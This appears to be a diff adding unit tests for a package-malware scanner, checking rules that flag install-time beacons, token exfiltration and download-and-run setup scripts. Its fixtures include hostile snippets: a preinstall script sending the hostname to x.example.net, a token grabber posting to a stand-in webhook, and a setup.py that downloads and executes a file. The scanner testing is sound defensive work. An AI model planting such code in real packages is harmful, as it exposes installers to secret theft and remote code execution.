@@ -1,0 +1,66 @@
+from __future__ import annotations
+
+from tests.analysis.builders import npm_tarball, run_rule, sdist
+from threatfeed.analysis import Engine
+from threatfeed.analysis.rules.correlation import (
+    data_exfiltration_rule,
+    install_time_beacon_rule,
+    install_time_download_rule,
+)
+
+BEACON = (
+    "const os = require('os');\nconst https = require('https');\n"
+    "https.request({ host: 'x.example.net', path: '/' + os.hostname() }).end();\n"
+)
+
+
+def test_beacon_in_install_script(engine: Engine) -> None:
+    archive = npm_tarball({"pre.js": BEACON}, scripts={"preinstall": "node pre.js"})
+    evidence = run_rule(engine, install_time_beacon_rule, archive)
+    assert evidence[0]["file"] == "package/pre.js"
+    assert {"network", "recon"} <= set(evidence[0]["capabilities"])
+
+
+def test_same_code_in_a_test_file_is_no_beacon(engine: Engine) -> None:
+    archive = npm_tarball({"test/net.test.js": BEACON})
+    assert run_rule(engine, install_time_beacon_rule, archive) is None
+
+
+def test_recon_and_network_in_different_files_do_not_correlate(engine: Engine) -> None:
+    archive = npm_tarball(
+        {
+            "a.js": "const os = require('os'); module.exports = os.hostname();\n",
+            "b.js": "require('https').get('https://x.example.net');\n",
+        },
+        scripts={"preinstall": "node a.js && node b.js"},
+    )
+    assert run_rule(engine, install_time_beacon_rule, archive) is None
+
+
+def test_token_grabber_sending_to_a_webhook(engine: Engine) -> None:
+    code = (
+        "import requests\n"
+        "pattern = r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}'\n"
+        "requests.post('https://x.example.net/hook', json={'t': pattern})\n"
+    )
+    evidence = run_rule(engine, data_exfiltration_rule, sdist({"t/grab.py": code}))
+    assert {"harvest", "network"} <= set(evidence[0]["capabilities"])
+
+
+def test_ssh_client_library_is_no_exfiltration(engine: Engine) -> None:
+    code = (
+        "import socket, os\n"
+        "KEY = os.path.expanduser('~/.ssh/id_rsa')\n"
+        "def connect(host):\n    s = socket.socket()\n    s.connect((host, 22))\n"
+    )
+    assert run_rule(engine, data_exfiltration_rule, sdist({"t/client.py": code})) is None
+
+
+def test_setup_py_that_downloads_and_runs(engine: Engine) -> None:
+    setup_py = (
+        "import os, urllib.request\nfrom setuptools import setup\n"
+        "urllib.request.urlretrieve('https://x.example.net/t', 't')\nos.system('t')\n"
+        "setup(name='x', version='1')\n"
+    )
+    assert run_rule(engine, install_time_download_rule, sdist(setup_py=setup_py))
+    assert run_rule(engine, install_time_download_rule, sdist()) is None
